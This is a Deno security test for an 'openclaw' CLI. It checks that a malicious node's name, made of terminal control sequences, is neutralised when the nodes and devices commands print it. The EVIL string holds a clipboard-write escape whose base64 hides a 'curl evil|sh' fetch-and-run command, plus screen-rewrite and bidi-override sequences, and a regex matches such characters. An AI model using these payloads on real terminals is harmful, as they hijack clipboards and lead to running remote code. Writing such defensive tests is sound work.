/**
 * Adversarial: a malicious node names itself with terminal control
 * sequences (OSC 52 writes the operator's clipboard, CSI rewrites what the
 * screen shows, bidi overrides reorder it). `openclaw nodes …` and
 * `openclaw devices …` print node-chosen text; it must reach the terminal
 * inert.
 */

import assert from "node:assert/strict";
import { cliEnv, startTestGateway, tempHome, TEST_TOKEN } from "../_helpers/gateway.ts";
import { runCliBounded } from "../_helpers/cli_e2e.ts";
import { DeviceKey, FakeNode, nodeParams } from "../_helpers/fake_node.ts";

const target = (url: string) => ["--url", url, "--token", TEST_TOKEN];
/** Clipboard write, a screen clear, an 8-bit CSI and a right-to-left override. */
const EVIL = "ok\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[2J\u009b31m\u202Eevil";
/** What a terminal would act on. */
// deno-lint-ignore no-control-regex -- matching control characters is the point
const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

Deno.test("openclaw nodes/devices output keeps a node's control characters away from the terminal", async () => {
  await using gw = await startTestGateway();
  const { home, cleanup } = await tempHome();
  try {
    const env = cliEnv(home);
    const node = await FakeNode.connect(
      gw.url,
      await DeviceKey.create(),
      () => ({ ok: true, payload: { text: EVIL } }),
      nodeParams({
        client: {
          id: "node-host",
          displayName: EVIL,
          version: EVIL.slice(0, 60),
          platform: "linux",
          mode: "node",
          deviceFamily: "server",
        },
      }),
    );
    try {
      for (
        const args of [
          ["nodes", "list"],
          ["nodes", "pending"],
          ["devices", "list"],
          ["nodes", "describe", node.nodeId],
          ["nodes", "list", "--json"],
        ]
      ) {
        const out = await runCliBounded([...args, ...target(gw.url)], env);
        assert.equal(out.code, 0, out.stderr);
        assert.ok(out.stdout.includes("ok"), `${args.join(" ")}: ${out.stdout}`);
        assert.doesNotMatch(out.stdout, CONTROL, args.join(" "));
      }
      // JSON stays JSON with the same data (escaped, not dropped).
      const json = await runCliBounded(["nodes", "list", "--json", ...target(gw.url)], env);
      assert.equal(JSON.parse(json.stdout).nodes[0].displayName, EVIL);
      const described = await runCliBounded(
        ["nodes", "describe", node.nodeId, ...target(gw.url)],
        env,
      );
      assert.equal(JSON.parse(described.stdout).displayName, EVIL);
    } finally {
      await node.close();
    }
  } finally {
    await cleanup();
  }
});
